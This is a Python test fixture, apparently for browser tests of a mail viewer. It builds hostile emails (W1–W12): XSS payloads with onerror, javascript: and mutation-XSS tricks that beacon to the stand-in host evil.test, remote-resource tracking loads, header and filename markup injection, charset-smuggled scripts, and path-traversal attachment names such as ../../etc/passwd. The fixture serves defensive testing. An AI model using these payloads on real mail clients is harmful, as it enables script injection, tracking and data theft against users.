"""Mail that attacks whoever looks at it: what the issue calls W1 to W7, W10 and W12."""

from __future__ import annotations

import base64

from tests.e2e.browser.heavy import nested_message

EVIL = "http://evil.test"
_RUN = f"alert(document.domain);new Image().src='{EVIL}/ran'"

W1 = f"""<script>{_RUN}</script><script src="{EVIL}/a.js"></script>
<img src=x onerror="{_RUN}"><img src="data:image/png;base64,AA" onerror="{_RUN}">
<a id=click href="javascript:{_RUN}">click</a><div onmouseover="{_RUN}">over</div>
<iframe srcdoc="<script>{_RUN}</script>"></iframe><object data="javascript:{_RUN}"></object>
<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>
<style></style><img src=x onerror="{_RUN}"></style><math><mtext><table><mglyph><style><!--
</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;"></table></mtext></math>"""
W2 = f"""<svg onload="{_RUN}"><script>{_RUN}</script><image href="{EVIL}/s.png"/></svg>
<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><base href="{EVIL}/">
<form action="{EVIL}/form"><input name=a value=b autofocus onfocus="{_RUN}">
<button id=send>send</button></form><p><a id=click href="{EVIL}/clicked" target="_top">go</a>
<a href="relative">there</a><body onload="{_RUN}">"""
W5 = f"""<link rel=stylesheet href="{EVIL}/a.css"><link rel=preconnect href="{EVIL}">
<link rel=dns-prefetch href="//evil.test"><link rel=prefetch href="{EVIL}/p">
<style>@import "{EVIL}/b.css"; @font-face {{ font-family: f; src: url({EVIL}/f.woff2) }}
body {{ background: url({EVIL}/bg.png); font-family: f }} p {{ background: u\\72l("{EVIL}/c.png") }}
li {{ list-style: image-set("{EVIL}/d.png" 1x) }}</style>
<img src="{EVIL}/open.gif" width=1 height=1><img srcset="{EVIL}/2x.png 2x" src="//evil.test/x.png">
<table background="{EVIL}/t.png"><tr><td style="background:url('{EVIL}/td.png')">cell</table>
<video src="{EVIL}/v.mp4" poster="{EVIL}/v.png" autoplay></video><audio src="{EVIL}/a.mp3" autoplay>
</audio><iframe src="{EVIL}/frame"></iframe><embed src="{EVIL}/e"><object data="{EVIL}/o"></object>
<input type=image src="{EVIL}/i.png"><svg><use href="{EVIL}/u.svg#x"/></svg><p>text<li>item"""
_MARKUP = '"><img src=x onerror=alert(1)>'
_PIXEL = base64.b64decode("R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==")


def _html(page: bytes, subject: str, charset: str = "utf-8") -> bytes:
    return (
        f"From: a@x.test\r\nTo: b@x.test\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + base64.encodebytes(page).replace(b"\n", b"\r\n")


def _w3() -> bytes:
    return (
        f'From: "{_MARKUP}" <a@x.test>\r\nTo: "{_MARKUP}" <b@x.test>\r\nSubject: {_MARKUP}\r\n'
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
        f"{_MARKUP}\r\n--b\r\nContent-Type: text/html; name='{_MARKUP}'\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''%22%3E%3Cimg%20src=x%20onerror=alert(1)"
        f"%3E.html\r\n\r\n<script>{_RUN}</script>\r\n--b--\r\n"
    ).encode()


def _w6() -> bytes:
    return (
        b"Subject: W6\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html\r\n\r\n<img id=cid src='cid:pixel@x'>"
        b"<img id=data src='data:image/gif;base64," + base64.b64encode(_PIXEL) + b"'>\r\n--b\r\n"
        b"Content-Type: image/gif\r\nContent-ID: <pixel@x>\r\nContent-Transfer-Encoding: base64\r\n"
        b"\r\n" + base64.b64encode(_PIXEL) + b"\r\n--b--\r\n"
    )  # fmt: skip


def _w7() -> dict[str, bytes]:
    page = f"<p>W7</p><script>{_RUN}</script><img src={EVIL}/w7.png onerror='{_RUN}'>"
    return {
        f"W7 {charset}": _html(page.encode(encoding), f"W7 {charset}", charset)
        for charset, encoding in (
            ("utf-7", "utf-7"), ("utf-16", "utf-16"), ("utf-32", "utf-32"),
            ("iso-2022-jp", "iso-2022-jp"), ("hz", "hz"),
        )
    }  # fmt: skip


def _w10() -> bytes:
    return (
        b"Subject: W10\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"".join(
            b'--b\r\nContent-Disposition: attachment; filename="%s"\r\n\r\nx\r\n' % name
            for name in (b"../../etc/passwd", b"..\\\\x", b"/abs", b"CON", b"a\x00b", b"n" * 300)
        )
        + b"--b--\r\n"
    )


def hostile_set() -> dict[str, bytes]:
    """Return the messages by their names."""
    return {
        "W1": _html(W1.encode(), "W1"),
        "W2": _html(W2.encode(), "W2"),
        "W3": _w3(),
        "W4": _html(b"<p>see the attachment</p>", "W4").replace(
            b"MIME-Version", b"Content-Disposition: inline; filename=a.html\r\nMIME-Version"
        ),
        "W5": _html(W5.encode(), "W5"),
        "W6": _w6(),
        **_w7(),
        "W10": _w10(),
        "W12": nested_message(10_000),
    }
